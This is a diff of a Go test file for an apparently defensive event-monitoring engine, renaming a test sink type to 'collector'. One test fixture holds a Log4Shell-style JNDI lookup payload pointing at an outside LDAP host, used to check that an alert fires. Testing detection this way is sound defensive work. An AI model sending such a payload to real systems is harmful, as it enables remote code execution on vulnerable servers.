@@ -84,7 +84,7 @@ func TestAlertPathRefusalCounted(t *testing.T) {
 // pipeline, by the producer's call.
 func TestTapForwards(t *testing.T) {
 	e, _, _ := newTestEngine(t, nil)
-	var s sink
+	var s collector
 	tap := e.Tap(&s)
 	evs := []event.Event{
 		logEvent(t0, "web", "hello"),
@@ -110,7 +110,7 @@ func TestTapForwards(t *testing.T) {
 // is forgotten after it.
 func TestFlowAlerted(t *testing.T) {
 	e, col, _ := newTestEngine(t, nil)
-	var s sink
+	var s collector
 	tap := e.Tap(&s)
 	ev := httpEvent(t0, netip4("198.51.100.7"), task, "GET", "app.example", "/", "${jndi:ldap://198.51.100.7:1389/a}", 404)
 	ev.FlowID = 4242
